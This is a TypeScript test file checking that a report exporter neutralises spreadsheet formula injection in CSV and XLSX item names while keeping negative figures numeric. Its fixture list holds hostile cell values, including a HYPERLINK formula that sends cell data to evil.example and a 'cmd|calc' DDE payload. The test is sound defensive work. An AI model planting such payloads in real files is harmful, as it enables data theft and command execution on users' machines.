// Report exports against formula injection: text that a spreadsheet would run is written as text, figures stay numbers.
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { exportTable } from '../../../server/reports/export';
import type { ReportTable } from '../../../server/reports/tables';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Rice")',
  '+91 cmd|calc',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];

/** An item-wise table whose names came from the counter, with a return that made a line negative. */
function itemsTable(): ReportTable {
  return {
    name: 'items',
    columns: [
      { key: 'name', label: 'Item', kind: 'text' },
      { key: 'qtyMilli', label: 'Qty', kind: 'milli' },
      { key: 'netPaise', label: 'Net sales', kind: 'paise' },
      { key: 'invoices', label: 'Invoices', kind: 'number' },
    ],
    rows: [
      ...HOSTILE.map((name, index) => ({ name, qtyMilli: 1500, netPaise: 12_345 + index, invoices: 2 })),
      { name: 'Toor dal', qtyMilli: -1000, netPaise: -12_345, invoices: -1 },
    ],
  };
}

const range = { from: '2026-06-01', to: '2026-06-30', table: 'items' as const };

describe('report exports', () => {
  it('CSV: a name starting with = + - @ tab or CR is written as text; negative money, quantities and counts stay numbers', async () => {
    const file = await exportTable(itemsTable(), { ...range, format: 'csv' });
    const parsed = Papa.parse<string[]>(Buffer.from(file.base64, 'base64').toString('utf8'), { skipEmptyLines: true });
    const [, ...rows] = parsed.data;
    expect(rows.slice(0, HOSTILE.length).map((row) => row[0])).toEqual(HOSTILE.map((name) => `'${name}`));
    expect(rows.at(-1)).toEqual(['Toor dal', '-1', '-123.45', '-1']);
  });

  it('XLSX: the same names are text cells starting with a quote; negative money and quantities are numbers', async () => {
    const file = await exportTable(itemsTable(), { ...range, format: 'xlsx' });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(file.base64, 'base64') as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const names = HOSTILE.map((_, index) => sheet.getRow(index + 2).getCell(1).value);
    // XML reads a carriage return back as a line feed; the quote in front is what matters.
    expect(names).toEqual(HOSTILE.map((name) => `'${name.replace(/\r/g, '\n')}`));
    for (let row = 2; row <= HOSTILE.length + 1; row++)
      expect(sheet.getRow(row).getCell(1).type).toBe(ExcelJS.ValueType.String);
    const last = sheet.getRow(HOSTILE.length + 2);
    expect([last.getCell(1).value, last.getCell(2).value, last.getCell(3).value, last.getCell(4).value]).toEqual([
      'Toor dal',
      -1,
      -123.45,
      -1,
    ]);
  });
});
